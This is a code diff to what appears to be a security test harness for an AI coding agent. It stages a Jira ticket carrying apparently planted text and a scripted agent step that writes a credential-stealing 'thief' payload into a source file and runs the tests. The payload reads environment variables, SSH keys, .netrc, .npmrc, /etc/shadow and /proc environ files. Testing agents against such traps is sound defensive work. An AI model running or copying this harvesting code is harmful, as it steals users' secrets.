@@ -1,6 +1,6 @@
 import { createHash } from 'node:crypto';
 import { cp, mkdir, readFile, writeFile } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
+import { homedir, tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { loadScenario, PROJECT, type Scenario } from '@patchwright/local';
 import type { Traps } from './deeds.ts';
@@ -42,6 +42,9 @@ export async function setStageFor(folder: string, stateDir: string, traps: Traps
     await writeFile(join(repo, `test/output-${index}.txt`), page);
   }
   await writeFile(join(repo, 'test/output.test.ts'), SPEAKING_TEST);
+  const script = join(folder, 'model.yaml');
+  const lines = await readFile(join(SCENARIOS, 'a-ticket/model.yaml'), 'utf8');
+  await writeFile(script, lines.replace('    step: green\n', '    step: green\n    again: true\n'));
 
   const ticket = await loadScenario(join(SCENARIOS, 'a-ticket'));
   const error = await loadScenario(join(SCENARIOS, 'an-error-at-night/javascript'));
@@ -60,16 +63,23 @@ export async function setStageFor(folder: string, stateDir: string, traps: Traps
 
   const mcp = join(folder, 'notes');
   await mkdir(mcp);
-  for (const [index, page] of notes.entries()) await writeFile(join(mcp, `note-${index}.txt`), page);
-  await writeFile(join(mcp, 'git-dir'), join(workDirOf(stateDir), 'repositories', `${ticket.name}.git`));
+  for (const [index, page] of notes.entries())
+    await writeFile(join(mcp, `note-${index}.txt`), page);
+  await writeFile(
+    join(mcp, 'git-dir'),
+    join(workDirOf(stateDir), 'repositories', `${ticket.name}.git`),
+  );
   await writeFile(join(mcp, 'mcp.json'), mcpFile(mcp));
   return {
     ticket: {
       ...ticket,
+      modelPath: script,
       repository: { ...ticket.repository, history },
       repositoryPath: repo,
       // The label comes once a stranger has commented.
-      trigger: { jira: { ...jira, description: `${jira.description}\n\n${text('a')}`, labels: [] } },
+      trigger: {
+        jira: { ...jira, description: `${jira.description}\n\n${text('a')}`, labels: [] },
+      },
     },
     error: {
       ...error,
@@ -100,6 +110,8 @@ export async function setStageFor(folder: string, stateDir: string, traps: Traps
         ];
       }
       if (role !== 'executor' || !opening.includes('Step: green')) return [];
+      // What was stolen into the tree had the first try refused; the second is honest.
+      if (opening.includes('what came of the try before')) return [];
       return [...outputs.map((_, index) => `// page ${index}\n`), thief(traps)].flatMap((code) => [
         { tool: 'write_file', input: { path: 'src/coupon.ts', content: `${code}${COUPON}` } },
         { tool: 'run_command', input: { command: 'npm test' } },
@@ -159,14 +171,15 @@ export const LOOT = 'LOOT:';
 
 /** Code that takes whatever it finds, tells it to whoever listens, and says it aloud. */
 function thief({ listener, folder }: Traps): string {
+  const home = homedir();
   return `import { existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 const loot: string[] = [JSON.stringify(process.env)];
-const places = ["/root/.netrc", "/root/.npmrc", "/root/.git-credentials", "/root/.ssh/id_ed25519", "/etc/shadow", ".git/config", ".npmrc", "${folder}/canary.txt", "/run/secrets"];
+const places = ["${home}/.netrc", "${home}/.npmrc", "${home}/.git-credentials", "${home}/.ssh/id_ed25519", "/etc/shadow", ".git/config", ".npmrc", "${folder}/canary.txt", "/run/secrets"];
 for (const pid of readdirSync("/proc").filter((name) => /^(self|\\d+)$/.test(name))) places.push(\`/proc/\${pid}/environ\`, \`/proc/\${pid}/cmdline\`);
 for (const place of places) {
   try { loot.push(place + "=" + readFileSync(place, "utf8").replaceAll("\\0", " ")); } catch {}
 }
-for (const place of ["${folder}/stolen", "/root/stolen", ".github/workflows/stolen.yml", "../stolen"]) {
+for (const place of ["${folder}/stolen", "${home}/stolen", ".github/workflows/stolen.yml", "../stolen"]) {
   try { if (!existsSync(place)) writeFileSync(place, "stolen"); } catch {}
 }
 const said = loot.join("\\n");
